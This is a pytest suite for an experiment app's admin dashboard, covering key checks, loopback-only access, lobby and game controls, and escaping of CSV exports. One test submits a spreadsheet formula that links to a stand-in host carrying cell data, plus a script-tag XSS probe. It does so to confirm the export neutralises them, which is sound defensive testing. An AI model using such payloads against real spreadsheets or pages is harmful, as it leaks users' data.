"""The experimenter's dashboard: its key, its address rule, its live state, its controls and its exports."""

from __future__ import annotations

import asyncio
import csv
import io
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from lexicoord.studies.file import StudyFile
from lexicoord.web.room import Room
from lexicoord.web.room_game import RoomGame
from tests.studies.conftest import KEY, Participant, play_out, serving, values
from tests.web.conftest import Browser

STATE = "/api/studies/pilot/admin/state"


@pytest.mark.parametrize("headers", [{}, {"X-Admin-Key": ""}, {"X-Admin-Key": "wrong"}, {"X-Admin-Key": KEY + "x"},
                                     {"Authorization": f"Bearer {KEY}"}])
def test_every_admin_call_is_refused_without_the_key(db: Path, headers: dict[str, str]) -> None:
    with serving(db, values()) as (client, _):
        for method, path in [("GET", STATE), ("POST", "/api/studies/pilot/admin/action"),
                             ("GET", "/api/studies/pilot/admin/participants.csv"),
                             ("GET", "/api/studies/pilot/admin/bonus.csv")]:
            r = client.request(method, path, headers=headers, json={"action": "end_study"})
            assert r.status_code == 401, (path, r.text)
        assert client.get(STATE, headers={"X-Admin-Key": KEY}).json()["status"] == "open"  # nothing was ended


def test_the_dashboard_answers_only_loopback_unless_served_publicly(db: Path) -> None:
    with serving(db, values(), public=False) as (client, part):
        # Starlette's test client comes from the address "testclient": not this machine's loopback.
        r = client.get(STATE, headers={"X-Admin-Key": KEY})
        assert r.status_code == 403 and "--host" in r.json()["message"]
        local = TestClient(client.app, client=("127.0.0.1", 50000))
        assert local.get(STATE, headers={"X-Admin-Key": KEY}).status_code == 200
        v6 = TestClient(client.app, client=("::1", 50000))
        assert v6.get(STATE, headers={"X-Admin-Key": KEY}).status_code == 200
        for remote in ("10.0.0.7", "192.168.1.20", "2001:db8::1", "localhost.evil.example"):
            other = TestClient(client.app, client=(remote, 50000))
            assert other.get(STATE, headers={"X-Admin-Key": KEY}).status_code == 403, remote


def test_the_state_counts_stages_and_shows_the_lobby_and_groups(db: Path) -> None:
    with serving(db, values()) as (client, _):
        a, b, c = (Participant(client, n) for n in ("a1", "b2", "c3"))
        a.to_lobby()
        b.to_lobby()
        c.enter()
        state = client.get(STATE, headers={"X-Admin-Key": KEY}).json()
        assert state["participants"] == 3 and state["by_stage"]["consent"] == 1
        a.until("game")
        state = client.get(STATE, headers={"X-Admin-Key": KEY}).json()
        [group] = state["groups"]
        seats = {s["seat"]: s for s in group["seats"]}
        assert seats["Person 1"]["participant"] == "a1" and seats["Person 2"]["participant"] == "b2"
        assert seats["Bot"]["kind"] == "agent" and seats["Bot"]["model"] == "scripted/first"
        assert state["times"]["consent"]["n"] == 2


def test_the_state_answers_as_soon_as_something_changes(db: Path) -> None:
    with serving(db, values()) as (client, _):
        version = client.get(STATE, headers={"X-Admin-Key": KEY}).json()["version"]
        got: list[float] = []

        def poll() -> None:
            started = time.monotonic()
            client.get(f"{STATE}?since={version}", headers={"X-Admin-Key": KEY})
            got.append(time.monotonic() - started)

        waiter = threading.Thread(target=poll)
        waiter.start()
        time.sleep(0.5)
        assert not got  # still waiting: nothing changed
        Participant(client, "newcomer").enter()
        waiter.join(10)
        assert got and 0.4 < got[0] < 5


def test_closing_the_lobby_sends_the_waiting_home_with_the_no_group_code(db: Path) -> None:
    with serving(db, values()) as (client, _):
        waiting = Participant(client, "w1")
        waiting.to_lobby()
        later = Participant(client, "w2")
        later.enter()
        later.answer("consent", agree=True)
        later.answer("instructions")
        r = client.post("/api/studies/pilot/admin/action", json={"action": "close_lobby"}, headers={"X-Admin-Key": KEY})
        assert r.status_code == 200 and "1 waiting" in r.json()["message"]
        assert waiting.me()["code"] == "ALONE4"
        assert later.answer("quiz", answers={"goal": "All agree"})["view"]["code"] == "ALONE4"


def test_pausing_turns_newcomers_away_and_resuming_lets_them_in(db: Path) -> None:
    with serving(db, values()) as (client, _):
        act = lambda a: client.post("/api/studies/pilot/admin/action", json={"action": a},  # noqa: E731
                                    headers={"X-Admin-Key": KEY})
        early = Participant(client, "early")
        early.enter()
        assert act("pause").status_code == 200
        r = client.post("/api/studies/pilot/enter", json={"pid": "late"})
        assert r.status_code == 403 and "not taking participants" in r.json()["message"]
        assert early.answer("consent", agree=True)["view"]["stage"] == "instructions"  # those inside go on
        act("resume")
        assert Participant(client, "late").enter()["stage"] == "consent"


def test_ending_a_game_sends_its_players_on_and_ending_the_study_closes_it(db: Path) -> None:
    with serving(db, values(group={"games": 3}, game={"seat_timeout": 600})) as (client, part):
        a, ba = two_playing(client)
        act = lambda body: client.post("/api/studies/pilot/admin/action", json=body,  # noqa: E731
                                       headers={"X-Admin-Key": KEY})
        assert act({"action": "end_game", "group": "g1"}).json()["message"] == "The game was ended."
        ba.until(lambda s: s["room"]["games"] == 2)  # the next game of the group began
        early = Participant(client, "early")
        early.enter()
        said = act({"action": "end_study"}).json()["message"]
        assert "1 participant(s) not yet in a game" in said and "1 game(s)" in said
        assert early.me()["code"] == "ALONE4"
        a.until("survey")
        assert a.survey()["view"]["code"] == "DONE1"  # those who played finish and are paid
        r = client.post("/api/studies/pilot/enter", json={"pid": "after"})
        assert r.status_code == 403 and "ended" in r.json()["message"]
        assert act({"action": "end_game", "group": "g9"}).status_code == 404
        assert act({"action": "drop_tables"}).status_code == 400
        assert part.study.state.groups["g1"].status == "finished"


def held_at(monkeypatch: pytest.MonkeyPatch, cls: type, name: str, when: Callable[[Any], bool]) -> tuple[
        threading.Event, threading.Event]:
    """``cls.name`` (a coroutine method) waits, the first time ``when(self)`` holds, until the test releases it:
    the server is held in the moment the test needs (the server's loop runs on, in its own thread)."""
    reached, release = threading.Event(), threading.Event()
    original = getattr(cls, name)

    async def held(self: Any, *args: Any, **kwargs: Any) -> Any:
        if not reached.is_set() and when(self):
            reached.set()
            await asyncio.to_thread(release.wait, 30)
        return await original(self, *args, **kwargs)

    monkeypatch.setattr(cls, name, held)
    return reached, release


def two_playing(client: TestClient) -> tuple[Participant, Browser]:
    """``a`` and ``b`` grouped, both on their game's page; ``a`` and its page."""
    a, b = Participant(client, "a"), Participant(client, "b")
    a.to_lobby()
    b.to_lobby()
    a.until("game")
    ba, _ = a.play(), b.play()
    ba.until(lambda s: s["room"]["phase"] == "playing")
    return a, ba


def end(client: TestClient, body: dict[str, Any]) -> str:
    r = client.post("/api/studies/pilot/admin/action", json=body, headers={"X-Admin-Key": KEY})
    assert r.status_code == 200, r.text
    return str(r.json()["message"])


#: Where the server is held as the group's second game is begun: asking the protocol for it (nothing is under way
#: to end yet, and the study says so), or saving it, numbered, before its launch (under way: one game to end).
HOLDS: dict[str, tuple[type, str, Callable[[Any], bool], str]] = {
    "begun": (RoomGame, "start", lambda game: game.played.games == 1, "0 game(s) under way were ended"),
    "saved": (Room, "save", lambda room: room.managed is not None and room.game.played.phase == "playing"
              and room.games == 2 and room.game.number == 1, "1 game(s) under way were ended"),
}


@pytest.mark.parametrize("moment", HOLDS)
def test_ending_the_study_as_the_next_game_is_begun_ends_that_game(db: Path, monkeypatch: pytest.MonkeyPatch,
                                                                   moment: str) -> None:
    """An end asked for while the next game is being begun is not lost: the game ends as soon as it is launched,
    and its players go on, rather than the game playing on after the study ended."""
    cls, name, when, told = HOLDS[moment]
    reached, release = held_at(monkeypatch, cls, name, when)
    with serving(db, values(group={"games": 3}, game={"seat_timeout": 600})) as (client, part):
        a, _ = two_playing(client)
        assert end(client, {"action": "end_game", "group": "g1"}) == "The game was ended."
        assert reached.wait(20), f"the second game was never {moment}"
        said = end(client, {"action": "end_study"})
        release.set()
        assert told in said
        a.until("survey")
        assert part.study.state.groups["g1"].status == "finished"
        room = part.study.rooms.get(part.study.state.groups["g1"].room or "") if part.study.rooms else None
        assert room is None or room.games == 2, "no game after the one the study's end ended"


def test_closing_a_room_as_its_next_game_is_saved_ends_that_game(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Closing a room (the operator's command, the sweep) between its next game's save and its launch ends that
    game as soon as it is launched, as a game under way is ended: it does not play on in a closed room."""
    cls, name, when, _ = HOLDS["saved"]
    reached, release = held_at(monkeypatch, cls, name, when)
    with serving(db, values(group={"games": 3}, game={"seat_timeout": 600})) as (client, part):
        two_playing(client)
        assert end(client, {"action": "end_game", "group": "g1"}) == "The game was ended."
        assert reached.wait(20), "the second game was never saved"
        rooms = part.study.rooms
        assert rooms is not None
        room = rooms.get(part.study.state.groups["g1"].room or "")
        assert room is not None
        client.portal.call(rooms.close, room, "closed by the operator")  # type: ignore[attr-defined]
        release.set()
        deadline = time.monotonic() + 15
        while not (room.game.number == 2 and room.game.task is not None and room.game.task.done()):
            assert time.monotonic() < deadline, "the game launched in the closed room plays on"
            time.sleep(0.05)


def test_a_game_whose_save_failed_is_not_ended_twice_nor_later(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The next game's save fails (the store went away): nothing will be launched, so an end asked for then ends
    nothing and says so, and no end is left waiting for a later game."""
    _, _, when, _ = HOLDS["saved"]
    original = Room.save
    failed = threading.Event()

    async def save(self: Room) -> None:
        if not failed.is_set() and when(self):
            failed.set()
            raise OSError("the store went away")
        await original(self)

    monkeypatch.setattr(Room, "save", save)
    with serving(db, values(group={"games": 3}, game={"seat_timeout": 600})) as (client, part):
        two_playing(client)
        assert end(client, {"action": "end_game", "group": "g1"}) == "The game was ended."
        assert failed.wait(20), "the second game's save was never tried"
        room = part.study.rooms.get(part.study.state.groups["g1"].room or "") if part.study.rooms else None
        assert room is not None
        assert not room.interrupt_game("ended by the experimenter"), "no game will be launched to end"
        assert room.game._stop is None  # noqa: SLF001 - nothing kept for a later game


def test_exports_escape_formulas_and_keep_html_as_written(db: Path) -> None:
    def quick(file: StudyFile) -> None:
        file.lobby.timeout = 0.3

    with serving(db, values(lobby={"fill_with_agents": True}), tune=quick) as (client, _):
        p = Participant(client, "p1")
        p.to_lobby()
        p.until("game")
        play_out(p.play())
        p.until("survey")
        p.survey(comments='=HYPERLINK("http://x.example/?"&A1,"open") <script>alert("x")</script>')
        text = client.get("/api/studies/pilot/admin/participants.csv", headers={"X-Admin-Key": KEY}).text
        state = client.get(STATE, headers={"X-Admin-Key": KEY}).json()
    [row] = list(csv.DictReader(io.StringIO(text)))
    # A spreadsheet would run a cell starting with "=": it is written with an apostrophe first, the rest as written.
    assert row["survey_comments"] == ''''=HYPERLINK("http://x.example/?"&A1,"open") <script>alert("x")</script>'''
    hostile = list(csv.reader(io.StringIO(text)))
    assert all(not str(cell).startswith(("=", "+", "@")) for r in hostile for cell in r)
    assert state["recent"][0]["survey"]["comments"].startswith("=HYPERLINK")  # JSON as written; the page shows text


def test_pausing_holds_the_lobby_and_its_timeout_and_resuming_forms_the_group(db: Path) -> None:
    clock = [1000.0]
    with serving(db, values(lobby={"timeout": 60})) as (client, part):
        part.study.clock = lambda: clock[0]
        act = lambda a: client.post("/api/studies/pilot/admin/action", json={"action": a},  # noqa: E731
                                    headers={"X-Admin-Key": KEY})
        a, b = Participant(client, "a"), Participant(client, "b")
        a.enter()
        b.enter()
        assert act("pause").status_code == 200
        a.to_lobby()
        assert b.to_lobby()["stage"] == "lobby", "no group forms while paused"
        clock[0] += 120  # past the lobby's timeout: a pause sends no one home
        time.sleep(1.2)  # two looks of the schedule
        assert a.me()["stage"] == "lobby" and not part.study.state.groups
        act("resume")
        assert a.until("game")["seat"] == "Person 1" and b.me()["stage"] == "game"
